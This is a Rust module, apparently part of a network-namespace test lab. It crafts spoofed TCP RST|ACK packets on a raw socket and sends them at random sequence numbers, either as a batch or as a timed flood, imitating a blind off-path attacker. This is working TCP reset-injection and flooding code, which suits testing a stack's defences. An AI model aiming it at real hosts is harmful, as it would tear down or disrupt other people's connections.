//! Spoofed RSTs from a raw socket, as a blind attacker sends them. Packets
//! are built with etherparse; the kernel adds nothing (IPPROTO_RAW implies
//! IP_HDRINCL).

use std::net::{Ipv4Addr, SocketAddrV4};

use etherparse::PacketBuilder;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

pub struct Spoofer {
    sock: Socket,
}

impl Spoofer {
    /// A raw IPv4 socket. Create it on a thread inside the attacker's
    /// namespace.
    pub fn v4() -> Spoofer {
        let sock = Socket::new(
            Domain::IPV4,
            Type::RAW,
            Some(Protocol::from(libc::IPPROTO_RAW)),
        )
        .expect("a raw socket (needs CAP_NET_RAW)");
        Spoofer { sock }
    }

    /// Sends a RST|ACK from `src` to `dst` with sequence number `seq`.
    pub fn rst(&self, src: SocketAddrV4, dst: SocketAddrV4, seq: u32, ack: u32) {
        let b = PacketBuilder::ipv4(src.ip().octets(), dst.ip().octets(), 64)
            .tcp(src.port(), dst.port(), seq, 0)
            .rst()
            .ack(ack);
        let mut pkt = Vec::with_capacity(b.size(0));
        b.write(&mut pkt, &[]).expect("building a RST");
        let to = SockAddr::from(SocketAddrV4::new(*dst.ip(), 0));
        self.sock.send_to(&pkt, &to).expect("sending a spoofed RST");
    }
}

pub fn v4(ip: &str, port: u16) -> SocketAddrV4 {
    SocketAddrV4::new(ip.parse::<Ipv4Addr>().unwrap(), port)
}

/// Sends `n` RSTs at random sequence numbers from `src` to `dst`, from a
/// raw socket in `ns`.
pub fn random_rsts(ns: &crate::lab::Netns, src: SocketAddrV4, dst: SocketAddrV4, n: u32) {
    ns.run(move || {
        use rand::Rng;
        let s = Spoofer::v4();
        let mut rng = rand::thread_rng();
        for _ in 0..n {
            s.rst(src, dst, rng.gen(), rng.gen());
        }
    });
    // Let them land before anyone reads counters.
    std::thread::sleep(std::time::Duration::from_millis(200));
}

/// A paced flood of spoofed RSTs (`per_tick` every 100 ms) from `ns`, until
/// stopped or `max` seconds pass.
pub struct Flood {
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    handle: std::thread::JoinHandle<u64>,
}

impl Flood {
    pub fn start(
        ns: &crate::lab::Netns,
        src: SocketAddrV4,
        dst: SocketAddrV4,
        per_tick: u32,
        max_secs: u64,
    ) -> Flood {
        use std::sync::atomic::{AtomicBool, Ordering};
        let stop = std::sync::Arc::new(AtomicBool::new(false));
        let flag = std::sync::Arc::clone(&stop);
        let handle = ns.spawn(move || {
            use rand::Rng;
            let s = Spoofer::v4();
            let mut rng = rand::thread_rng();
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(max_secs);
            let mut sent = 0u64;
            while !flag.load(Ordering::Relaxed) && std::time::Instant::now() < deadline {
                for _ in 0..per_tick {
                    s.rst(src, dst, rng.gen(), rng.gen());
                    sent += 1;
                }
                std::thread::sleep(std::time::Duration::from_millis(100));
            }
            sent
        });
        Flood { stop, handle }
    }

    /// Stops it; returns how many RSTs it sent.
    pub fn stop(self) -> u64 {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
        self.handle.join().expect("the flood thread panicked")
    }
}
